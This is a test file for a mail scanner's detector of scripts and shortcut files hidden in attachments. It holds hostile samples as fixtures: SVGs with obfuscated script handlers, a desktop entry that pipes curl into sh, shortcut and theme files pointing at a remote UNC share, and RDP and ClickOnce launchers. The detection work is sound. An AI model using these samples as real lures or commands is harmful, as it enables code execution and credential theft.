"""Scripts and shortcuts by content: strict, since people write about them, quote them and mail them to lists."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailscan.filetype import LINKS, SCRIPTS, SHORTCUTS, SOURCE, kind, script, text_kind
from mailscan.filetype.scripts import BY_NAME, BY_TYPE

REG = b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n"
WSF = b"<job id='x'><script language='VBScript'>MsgBox 1</script></job>"


def group(text: bytes) -> str:
    return text_kind(text).group


# --- what must not fire


@pytest.mark.parametrize(
    ("text", "name"),
    [
        (b"MsgBox 1\n", "a.txt"),
        (b"var x = 1;\n", "x.js.patch"),
        (b"@echo off\n", "notes.txt"),
        (b"@echo off is how batch files begin\n", "a.md"),
        (b"hello\n", ""),
        (b"#!/bin/sh\nrm -r x\n", "install.sh"),
        (b"import os\n", "a.py"),
        (b"use strict;\n", "a.pl"),
        (b"<html><script>alert(1)</script></html>", "a.html"),
        (b"Windows Registry Editor Version 5.00 writes UTF-16\n", "a.txt"),
        (b"REGEDIT4 is a word\n[see below]\n", ""),
        (b"The tag <HTA:APPLICATION> is old\n", "a.txt"),
        (b"> [InternetShortcut]\n> URL=file://x\n", ""),
        (b"--- a/x.svg\n+++ b/x.svg\n+<svg onload='x()'/>\n", "svg.patch"),
        (b"<package xmlns='http://www.idpf.org/2007/opf'/>", "content.opf"),
        (b"<assembly xmlns='urn:schemas-microsoft-com:asm.v1'/>", "app.manifest"),
        (b"<component name='x'/>", "a.xml"),
        (b"BEGIN:VCALENDAR\n", "invite.ics"),
        (b"From: a:b:c\n", ""),
        (b"key:s:value\n", "a.txt"),
        (b"[Shell]\nnothing=1\n", "a.ini"),
    ],
)
def test_innocent_text(text: bytes, name: str) -> None:
    assert script(text, [name] if name else []) is None


def test_what_is_no_text_is_no_script() -> None:
    assert script(b"\0\1\2\3", ["a.js"]) is None
    assert script(b"", ["a.js"]) is None


@pytest.mark.parametrize(
    ("text", "name", "of"),
    [
        (b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=C:\\x.ico\r\n", "url", LINKS),
        (b"[{000214A0-0000-0000-C000-000000000046}]\nProp3=19,2\n[InternetShortcut]\nURL=http://x/\n", "url", LINKS),
        (b"[Desktop Entry]\nType=Application\nExec=firefox %u\n", "desktop", SOURCE),
        (b'; x\n[Version]\nSignature="$Windows NT$"\n', "inf", SOURCE),
        (b"#!/usr/bin/env python3\n", "script-unix", SOURCE),
    ],
)
def test_what_opens_in_an_editor_or_a_browser(text: bytes, name: str, of: str) -> None:
    assert (text_kind(text).name, group(text)) == (name, of)


@pytest.mark.parametrize(
    "image",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><text>turn on = off; only = here</text></svg>",
        b"<svg><a href='https://example.org/?a=1&amp;b=2'><path d='M0 0'/></a></svg>",
        b"<svg><image xlink:href='data:image/png;base64,AAAA'/></svg>",
        b"<svg><foreignObject><div xmlns='http://www.w3.org/1999/xhtml'>a label</div></foreignObject></svg>",
        b"<!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg xmlns='&ns_svg;'/>",
        b"<svg><metadata>description &lt;script&gt;</metadata></svg>",
        b"<svg><style>a { content: 'on' }</style></svg>",
    ],
)
def test_images_without_script(image: bytes) -> None:
    assert text_kind(image).name == "svg"


# --- what must fire


@pytest.mark.parametrize(
    "image",
    [
        b"<svg><script>x()</script></svg>",
        b"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:SCRIPT href='x'/></s:svg>",
        b"<svg onload='x()'/>",
        b'<svg\nONLOAD = "x()"/>',
        b"<svg><a xlink:href=' javascript:x()'>y</a></svg>",
        b"<svg><a href='java&#115;cript:x()'>y</a></svg>",
        b"<svg><a href='jav&Tab;ascript:x()'>y</a></svg>",
        b"<svg><set attributeName='href' to='javascript:x()'/></svg>",
        b"<svg><foreignObject><iframe src='https://example.org/'/></foreignObject></svg>",
        b"<svg><foreignObject><form action='https://example.org/'><input/></form></foreignObject></svg>",
        b"<!DOCTYPE svg [<!ENTITY x '&#60;script&#62;'>]><svg>&x;</svg>",
        b"<svg>" + b" " * 70_000 + b"<script>x()</script></svg>",
        "<svg onload='x()'/>".encode("utf-16"),
        "<svg onload='x()'/>".encode("utf-16-le"),
        "<?xml version='1.0'?><svg onload='x()'/>".encode("utf-16-be"),
    ],
)
def test_images_with_script(image: bytes) -> None:
    found = kind(image)
    assert found is not None
    assert found.name == "svg-script"
    assert group(image) == SCRIPTS


@pytest.mark.parametrize(
    ("text", "name", "of"),
    [
        (b"#@~^DgAAAA==\\ko$K6,F@#@&vwIAAA==^#~@", "encoded-script", SCRIPTS),
        (b"<html><head><HTA:APPLICATION id=x><script>y</script></html>", "hta", SCRIPTS),
        (b"<script language='JScript.Encode'>#@~^DgAAAA==x</script>", "hta", SCRIPTS),
        (WSF, "wsf", SCRIPTS),
        (b"<?xml version='1.0'?>\n<package>" + WSF + b"</package>", "wsf", SCRIPTS),
        (b"<?XML version='1.0'?><scriptlet><registration progid='x'/><script>y</script></scriptlet>", "sct", SCRIPTS),
        (b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'/>", "msc", SCRIPTS),
        (REG, "reg", SCRIPTS),
        (REG.decode().encode("utf-16"), "reg", SCRIPTS),
        (b"REGEDIT4\n\n[-HKEY_CLASSES_ROOT\\x]\n", "reg", SCRIPTS),
        (b"[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\x\n", "scf", SHORTCUTS),
        (b"<?xml version='1.0'?><PCSettings><SearchableContent/></PCSettings>", "settingcontent", SHORTCUTS),
        (b"<?xml version='1.0'?><libraryDescription xmlns='x'/>", "library-ms", SHORTCUTS),
        (b"<?xml version='1.0'?><persistedQuery version='1.0'/>", "library-ms", SHORTCUTS),
        (b"[InternetShortcut]\nURL=file://192.0.2.1/x/y.exe\n", "url-file", SHORTCUTS),
        (b"[InternetShortcut]\nURL=https://x/\nIconFile=\\\\192.0.2.1\\x.ico\n", "url-file", SHORTCUTS),
        (b"[InternetShortcut]\nURL=\\\\192.0.2.1\\x\n", "url-file", SHORTCUTS),
        (b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n", "desktop-command", SHORTCUTS),
        (b"[Theme]\nDisplayName=x\n[VisualStyles]\nPath=\\\\192.0.2.1\\x\n", "theme", SHORTCUTS),
        (b"screen mode id:i:2\nredirectclipboard:i:1\nfull address:s:192.0.2.1\n", "rdp", SHORTCUTS),
        ("full address:s:x\r\nprompt:i:0\r\nusername:s:\r\n".encode("utf-16"), "rdp", SHORTCUTS),
        (b"WEB\r\n1\r\nhttps://example.org/x\r\n", "iqy", SHORTCUTS),
        (b"<?xml version='1.0'?><jnlp codebase='x'/>", "jnlp", SHORTCUTS),
        (b"http://x/y.application#y.application, Version=1, PublicKeyToken=0000\n", "clickonce", SHORTCUTS),
        (b"<asmv1:assembly><deployment install='true'><deploymentProvider/></deployment></asmv1:assembly>", "clickonce",
         SHORTCUTS),
    ],
)  # fmt: skip
def test_what_is_unmistakable(text: bytes, name: str, of: str) -> None:
    assert (text_kind(text).name, group(text)) == (name, of)
    found = script(text, ["a.txt"])
    assert found is not None
    assert found.name == name
    assert kind(text) == found


@pytest.mark.parametrize(
    ("text", "names", "declared", "name"),
    [
        (b"x()\n", ["a.js"], "", "javascript"),
        (b"<html>", ["a.hta"], "text/html", "hta"),
        (b"dir\n", ["a.pdf", "a.CMD. "], "", "batch"),
        (b"@ECHO  off\r\n", [], "", "batch"),
        (b"dir\n", [], "application/x-bat", "batch"),
        (b"x()\n", [], "application/hta", "hta"),
        ("Get-Process\n".encode("utf-16"), ["a.ps1"], "", "powershell"),
    ],
)
def test_what_is_run_for_its_name(text: bytes, names: list[str], declared: str, name: str) -> None:
    found = script(text, names, declared)
    assert found is not None
    assert found.name == name


def test_the_tables_name_kinds_that_there_are() -> None:
    from mailscan.filetype.extensions import named
    from mailscan.filetype.kinds import KINDS

    assert {KINDS[name].group for name in BY_NAME.values()} == {SCRIPTS, SHORTCUTS}
    assert set(BY_TYPE.values()) <= set(BY_NAME)
    # A name makes a script of what a name is run for.
    assert [ending for ending in BY_NAME if named(ending)[0] not in (SCRIPTS, SHORTCUTS)] == ["psm1"]


@given(st.binary(max_size=200), st.lists(st.text(max_size=20), max_size=2), st.sampled_from(["", *BY_TYPE]))
def test_anything(data: bytes, names: list[str], declared: str) -> None:
    found = script(data, names, declared)
    assert found is None or found.group in (SCRIPTS, SHORTCUTS)
